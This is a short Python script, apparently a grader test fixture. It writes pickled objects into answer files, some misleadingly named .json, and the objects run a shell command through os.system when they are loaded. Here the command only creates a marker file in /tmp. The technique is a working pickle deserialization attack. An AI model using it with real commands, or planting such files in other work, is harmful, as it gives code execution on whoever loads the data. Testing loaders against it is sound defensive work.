# Saves pickles as answers, and returns objects that run code when they are read.
# cell: q1-open
# points: q1=0 q2=0 q3=0
import os
import pickle


class Runs:
    def __reduce__(self):
        return (os.system, ("touch /tmp/spamlab-was-here",))


os.makedirs("answers", exist_ok=True)
for name in ("q1-twin", "q2-twin", "q3"):
    with open(f"answers/{name}.json", "wb") as file:
        file.write(pickle.dumps(Runs()))
with open("answers/q1-twin.pickle", "wb") as file:
    file.write(pickle.dumps(Runs()))


def find(raw):
    return Runs()
